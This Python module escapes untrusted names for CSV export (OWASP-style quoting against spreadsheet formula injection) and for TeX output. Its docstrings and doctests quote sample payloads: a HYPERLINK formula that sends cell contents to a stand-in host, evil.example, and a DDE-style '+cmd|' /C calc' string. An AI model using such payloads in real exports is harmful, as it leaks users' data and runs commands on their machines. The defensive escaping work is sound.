"""Cells written to files other programs open: CSV for spreadsheets, TeX for papers.

Names in a store (teachers, datasets, labelers) are untrusted text, and two kinds of file turn
text into actions:

- A spreadsheet (Excel, LibreOffice, Google Sheets) runs a CSV cell that starts with ``=``,
  ``+``, ``-`` or ``@`` (a tab or carriage return first works too) as a formula:
  ``=HYPERLINK("http://evil.example/?"&A1, "x")`` sends a neighbouring cell away. OWASP's
  advice, followed here: put a single quote before such a cell, which spreadsheets show as text.
- TeX reads ``\\ & % $ # _ { } ~ ^`` as commands, ``[`` right after ``\\\\`` or a command as
  an optional argument (and ``*`` after ``\\\\`` as its star), and a non-ASCII character as
  whatever the input encoding makes of it (pdflatex with an old setup stops; ``U+202E`` would
  silently reverse the text after it).

:func:`csv_cell` and :func:`tex_text` make a cell inert in each. Pure string functions; every
CSV the project writes (``publish``, ``Store.export``, the app's download buttons) and every
TeX cell goes through them.
"""

from __future__ import annotations

import unicodedata
from typing import Any

__all__ = [
    "CSV_TRIGGERS",
    "csv_arrow",
    "csv_cell",
    "csv_frame",
    "csv_uncell",
    "tex_text",
]

#: First characters that make a spreadsheet read a cell as a formula (or, tab and CR, make it
#: skip to one). A leading quote is listed too, so that quoting stays reversible.
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")


def csv_cell(value: object) -> object:
    """``value`` safe as a CSV cell: a string starting with one of :data:`CSV_TRIGGERS` gets
    a ``'`` in front; anything else (numbers included) is returned as it is.

    Formula: ``s`` → ``"'" + s`` when ``s[0]`` is one of ``= + - @ TAB CR '``, else ``s``.
    The leading quote of an original value is quoted too, so :func:`csv_uncell` recovers every
    string exactly (a value starts with ``'`` after quoting iff it was quoted).

    >>> csv_cell('=HYPERLINK("http://x/?"&A1)'), csv_cell("@SUM(1+1)"), csv_cell("gpt-4")
    ('\\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1+1)", 'gpt-4')
    >>> csv_cell(-0.5), csv_cell("'q")
    (-0.5, "''q")
    """
    if isinstance(value, str) and value.startswith(CSV_TRIGGERS):
        return "'" + value
    return value


def csv_uncell(value: object) -> object:
    """The inverse of :func:`csv_cell`: one leading ``'`` of a string is removed.

    >>> csv_uncell("'=1+1"), csv_uncell("''q"), csv_uncell("plain")
    ('=1+1', "'q", 'plain')
    """
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return value


def csv_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with :func:`csv_cell` applied to every text cell (object,
    string and categorical columns) and to the column names (numbers stay numbers, so ``-0.5``
    is not quoted).

    >>> import pandas as pd
    >>> csv_frame(pd.DataFrame({"teacher": ["+cmd|' /C calc'!A0", "m"], "x": [-1, 2]}))
                   teacher  x
    0  '+cmd|' /C calc'!A0 -1
    1                    m  2
    """
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        values = out[column]
        if isinstance(values.dtype, pd.CategoricalDtype):
            # Categories are text too (the app loads ids and names as categoricals); the
            # mapping is one to one, so no two categories merge.
            out[column] = values.cat.rename_categories(csv_cell)
        elif values.dtype == object or str(values.dtype) in ("string", "str"):
            out[column] = values.map(csv_cell).astype(values.dtype)
    out.columns = [csv_cell(c) for c in out.columns]
    return out


def csv_arrow(table: Any) -> Any:
    """A pyarrow Table with :func:`csv_cell` applied to every string column, dictionary-encoded
    ones included (nulls kept).

    >>> import pyarrow as pa
    >>> csv_arrow(pa.table({"a": ["=1", None, "b"], "n": [-1, 0, 1]})).column("a").to_pylist()
    ["'=1", None, 'b']
    """
    import pyarrow as pa

    for i, field in enumerate(table.schema):
        kind = field.type
        if pa.types.is_dictionary(kind) and _is_text(kind.value_type):
            # Dictionary-encoded text is written as its values: quote those.
            kind = kind.value_type
            field = pa.field(field.name, kind, field.nullable)
        elif not _is_text(kind):
            continue
        values = [csv_cell(v) for v in table.column(i).to_pylist()]
        table = table.set_column(i, field, pa.array(values, type=kind))
    return table


def _is_text(kind: Any) -> bool:
    import pyarrow as pa

    return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind))


# TeX's special characters, each as a command that prints it. ``[``, ``]`` and ``*`` are braced
# so that a cell starting with one after ``\\`` (a new row) is never its optional argument or
# its star (LaTeX looks for both past spaces and the line end).
_TEX_SPECIAL = {
    "\\": r"\textbackslash{}",
    "{": r"\{",
    "}": r"\}",
    "$": r"\$",
    "&": r"\&",
    "#": r"\#",
    "%": r"\%",
    "_": r"\_",
    "^": r"\textasciicircum{}",
    "~": r"\textasciitilde{}",
    "<": r"\textless{}",
    ">": r"\textgreater{}",
    "|": r"\textbar{}",
    '"': r"\textquotedbl{}",
    "[": "{[}",
    "]": "{]}",
    "*": "{*}",
}
# Combining accents with a plain-TeX accent command (after NFD decomposition).
_TEX_ACCENTS = {
    "\u0300": "`",
    "\u0301": "'",
    "\u0302": "^",
    "\u0303": "~",
    "\u0308": '"',
    "\u030a": "r",
    "\u0327": "c",
    "\u030c": "v",
    "\u0304": "=",
    "\u0307": ".",
    "\u0306": "u",
    "\u030b": "H",
    "\u0328": "k",
}
# Letters and marks TeX has a command for.
_TEX_LETTERS = {
    "ß": r"\ss{}",
    "æ": r"\ae{}",
    "Æ": r"\AE{}",
    "ø": r"\o{}",
    "Ø": r"\O{}",
    "œ": r"\oe{}",
    "Œ": r"\OE{}",
    "ł": r"\l{}",
    "Ł": r"\L{}",
    "ı": r"\i{}",
    "–": "--",
    "—": "---",
    "‘": "`",
    "’": "'",
    "“": "``",
    "”": "''",
    "…": r"\ldots{}",
    "×": r"$\times$",
    "Δ": r"$\Delta$",
    # the robustness marker (a rank that flips under some analysis choice)
    "⇅": r"$\uparrow\!\downarrow$",
    "\u00a0": "~",
}


def tex_text(text: object) -> str:
    r"""``text`` as plain-ASCII TeX that prints it: every special character escaped, accented
    letters as accent commands, anything else as its code point.

    Formula, per character after NFD decomposition: an ASCII special (``\ { } $ & # % _ ^ ~ <
    > | "``) → the command that prints it; ``[`` → ``{[}``, ``]`` → ``{]}`` and ``*`` → ``{*}``
    (so ``\\`` before a cell never reads its first character as an argument); a letter
    followed by combining accents → ``\'{e}``-style accent commands; ß, æ, ø, œ, ł, dashes and
    curly quotes → their TeX spelling; other ASCII printable characters as they are; anything
    else (bidi controls such as U+202E, control characters, other scripts, emoji) →
    ``{[}U+XXXX{]}``. The result is pure ASCII and no character of it starts an argument.

    >>> print(tex_text("Café_2 [x] 50% & $5"))
    Caf\'{e}\_2 {[}x{]} 50\% \& \$5
    >>> print(tex_text("a\u202eb\\c"))
    a{[}U+202E{]}b\textbackslash{}c
    """
    out: list[str] = []
    decomposed = unicodedata.normalize("NFD", str(text))
    i = 0
    while i < len(decomposed):
        char = decomposed[i]
        i += 1
        accents = []
        while i < len(decomposed) and unicodedata.combining(decomposed[i]):
            accents.append(decomposed[i])
            i += 1
        if char in _TEX_SPECIAL:
            piece = _TEX_SPECIAL[char]
        elif char in _TEX_LETTERS:
            piece = _TEX_LETTERS[unicodedata.normalize("NFC", char)]
        elif " " <= char <= "~":
            piece = char
        elif char in "\n\r\t":
            piece = " "
        else:
            piece = f"{{[}}U+{ord(char):04X}{{]}}"
        for accent in accents:
            command = _TEX_ACCENTS.get(accent)
            if command is None:
                piece += f"{{[}}U+{ord(accent):04X}{{]}}"
            elif piece == "i":
                piece = f"\\{command}{{\\i}}"
            else:
                piece = f"\\{command}{{{piece}}}"
        out.append(piece)
    return "".join(out)
